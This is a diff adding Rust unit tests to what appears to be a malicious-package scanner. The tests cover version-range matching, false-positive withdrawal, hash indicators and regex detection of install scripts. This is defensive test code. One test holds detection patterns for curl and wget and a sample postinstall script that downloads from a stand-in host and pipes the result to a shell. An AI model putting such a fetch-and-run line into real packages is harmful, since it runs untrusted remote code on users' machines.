@@ -112,3 +112,164 @@ impl Engine {
         &self.knowledge
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::{Query, Rule, Severity};
+    use scioc_model::{Affected, IndicatorKind, MatchKind, Range, RangeEvent, RangeKind};
+    use scioc_store::Indicator;
+
+    /// An event of package `name` (npm) from `source`/`record`.
+    fn event(seq: i64, kind: &str, name: &str, version: Option<&str>, record: Option<&str>) -> PackageEvent {
+        PackageEvent {
+            seq,
+            event_type: kind.into(),
+            purl: Some(format!("pkg:npm/{name}{}", version.map(|v| format!("@{v}")).unwrap_or_default())),
+            community: Some("npm".into()),
+            package: Some(name.into()),
+            version: version.map(str::to_owned),
+            md5: None,
+            sha1: None,
+            sha256: None,
+            sha512: None,
+            source: record.map(|_| "osv".into()),
+            source_id: record.map(str::to_owned),
+            affected: None,
+        }
+    }
+
+    fn ranged(mut e: PackageEvent, events: &[RangeEvent]) -> PackageEvent {
+        e.affected = Some(Affected::new(vec![Range { kind: RangeKind::Semver, events: events.to_vec() }]));
+        e
+    }
+
+    fn intro(v: &str) -> RangeEvent {
+        RangeEvent::Introduced(v.into())
+    }
+
+    fn fixed(v: &str) -> RangeEvent {
+        RangeEvent::Fixed(v.into())
+    }
+
+    fn hit(engine: &Engine, name: &str, v: &str) -> Option<String> {
+        engine.check(&Query::package("npm", name, Some(v))).into_iter().next().map(|v| v.evidence)
+    }
+
+    #[test]
+    fn a_range_only_report_covers_its_range_only() {
+        let e = ranged(event(1, "NEW_MALICIOUS", "fsevents", None, Some("MAL-2023-462")), &[intro("1.0.0"), fixed("1.2.11")]);
+        let engine = Engine::build(&[e], Knowledge::default());
+        assert_eq!(hit(&engine, "fsevents", "2.3.3"), None, "chokidar's fsevents is clean");
+        let v = &engine.check(&Query::package("npm", "fsevents", Some("1.2.10")))[0];
+        assert_eq!((v.rule, v.severity, v.reference.as_deref()), (Rule::KnownMalicious, Severity::Critical, Some("MAL-2023-462")));
+        assert_eq!(v.evidence, "fsevents@1.2.10: in the malicious range >=1.0.0 <1.2.11");
+        assert!(engine.check(&Query::package("npm", "fsevents", None)).is_empty(), "an unpinned dependency is not in a bounded range");
+    }
+
+    #[test]
+    fn a_range_change_is_an_fp_of_the_old_range_and_a_new_announcement() {
+        let old = ranged(event(1, "NEW_MALICIOUS", "x", None, Some("MAL-1")), &[intro("0")]);
+        let other = event(2, "NEW_MALICIOUS", "x", Some("0.5.0"), Some("MAL-2"));
+        let mut engine = Engine::build(&[old.clone(), other], Knowledge::default());
+        assert!(hit(&engine, "x", "0.1.0").unwrap().contains("every version"));
+        let mut fp = old;
+        fp.seq = 3;
+        fp.event_type = "FP".into();
+        let narrowed = ranged(event(4, "NEW_MALICIOUS", "x", None, Some("MAL-1")), &[intro("1.0.0"), fixed("1.1.0")]);
+        engine.apply_events(&[fp, narrowed]);
+        assert_eq!(hit(&engine, "x", "0.1.0"), None, "the FP withdrew the old range");
+        assert!(hit(&engine, "x", "1.0.5").is_some(), "the new range holds");
+        assert!(hit(&engine, "x", "0.5.0").is_some(), "another report's version is untouched by MAL-1's FP");
+    }
+
+    #[test]
+    fn a_whole_package_reclassification_clears_every_report_and_a_rename_widens_nothing() {
+        let a = event(1, "NEW_MALICIOUS", "y", Some("1.0.0"), Some("MAL-1"));
+        let b = ranged(event(2, "NEW_MALICIOUS", "y", None, Some("MAL-2")), &[intro("2.0.0"), fixed("2.1.0")]);
+        // A rename without ranges (a reclassification's NEW_THREAT_NAME) must not widen MAL-2.
+        let rename = event(3, "NEW_THREAT_NAME", "y", None, None);
+        let mut engine = Engine::build(&[a, b, rename], Knowledge::default());
+        assert!(hit(&engine, "y", "1.0.0").is_some() && hit(&engine, "y", "2.0.5").is_some());
+        assert_eq!(hit(&engine, "y", "3.0.0"), None);
+        let mut fp = event(4, "FP", "y", None, None);
+        fp.source = Some("reclassify".into());
+        engine.apply_events(&[fp]);
+        assert_eq!((hit(&engine, "y", "1.0.0"), hit(&engine, "y", "2.0.5")), (None, None));
+        assert_eq!(engine.seq(), 4);
+        // Applying an older batch again changes nothing.
+        engine.apply_events(&[event(2, "NEW_MALICIOUS", "y", Some("1.0.0"), Some("MAL-1"))]);
+        assert_eq!(hit(&engine, "y", "1.0.0"), None);
+    }
+
+    #[test]
+    fn versions_compare_by_the_ecosystems_order() {
+        let mut e = event(1, "NEW_MALICIOUS", "Req_Uests", Some("2.0"), Some("MAL-9"));
+        e.community = Some("pypi".into());
+        let engine = Engine::build(&[e], Knowledge::default());
+        assert!(!engine.check(&Query::package("PyPI", "req-uests", Some("2.0.0"))).is_empty(), "PEP 440: 2.0 == 2.0.0");
+        assert!(engine.check(&Query::package("PyPI", "req-uests", Some("2.0.1"))).is_empty());
+    }
+
+    fn indicator(kind: IndicatorKind, value: &str, m: MatchKind) -> Indicator {
+        Indicator {
+            kind,
+            value: value.into(),
+            ecosystem: String::new(),
+            package: String::new(),
+            source: "curation".into(),
+            source_id: format!("https://example.org/{value}"),
+            match_kind: m,
+            confidence: "high".into(),
+            action: "block".into(),
+        }
+    }
+
+    #[test]
+    fn sha256_indicators_match_archive_hashes() {
+        let hex = "ab".repeat(32);
+        let engine = Engine::build(&[], Knowledge::new(vec![], vec![indicator(IndicatorKind::Sha256, &hex, MatchKind::Exact)]));
+        let hashes = [("sha256", hex.clone())];
+        let q = Query { hashes: &hashes, ..Query::package("PyPI", "anything", Some("1.0")) };
+        let v = engine.check(&q);
+        assert_eq!(v.len(), 1, "{v:?}");
+        assert_eq!((v[0].rule, v[0].severity), (Rule::Indicator, Severity::Critical));
+        assert!(v[0].evidence.contains(&hex));
+        assert!(engine.check(&Query::package("PyPI", "anything", Some("1.0"))).is_empty());
+    }
+
+    #[test]
+    fn a_bad_regex_is_named_and_drops_nothing_else() {
+        let iocs = vec![
+            indicator(IndicatorKind::ScriptPattern, "curl (.*", MatchKind::Regex),
+            indicator(IndicatorKind::ScriptPattern, r"wget\s+http", MatchKind::Regex),
+        ];
+        let engine = Engine::build(&[], Knowledge::new(vec![], iocs));
+        assert_eq!(engine.warnings().len(), 1, "{:?}", engine.warnings());
+        assert!(engine.warnings()[0].contains("\"curl (.*\"") && engine.warnings()[0].contains("not a valid regex"));
+        let scripts = [("postinstall".to_owned(), "wget  http://x/y | sh".to_owned())];
+        let q = Query { scripts: &scripts, ..Query::package("npm", "p", Some("1.0.0")) };
+        assert_eq!(engine.check(&q).len(), 1, "the valid regex still matches");
+    }
+
+    #[test]
+    fn curated_rules_use_the_validating_parser_and_warn_on_what_it_refuses() {
+        let entry = |id: &str, spec: &str| scioc_curation::files::BlacklistEntry {
+            id: id.into(),
+            component: "evil".into(),
+            ecosystem: "npm".into(),
+            affected_versions: vec![spec.into()],
+            action: "BLOCK".into(),
+            severity: "HIGH".into(),
+            reason: String::new(),
+            link: String::new(),
+            extra: Default::default(),
+        };
+        let engine = Engine::build(&[], Knowledge::new(vec![entry("R-1", ">=2.4.0 <<2.4.3"), entry("R-2", ">=3.0.0 <3.0.2")], vec![]));
+        assert_eq!(engine.warnings().len(), 1);
+        assert!(engine.warnings()[0].starts_with("blacklist rule R-1"), "{:?}", engine.warnings());
+        assert!(engine.check(&Query::package("npm", "evil", Some("2.4.1"))).is_empty(), "a refused range matches nothing");
+        let v = &engine.check(&Query::package("npm", "evil", Some("3.0.1")))[0];
+        assert_eq!((v.severity, v.reference.as_deref()), (Severity::High, Some("R-2")));
+    }
+}
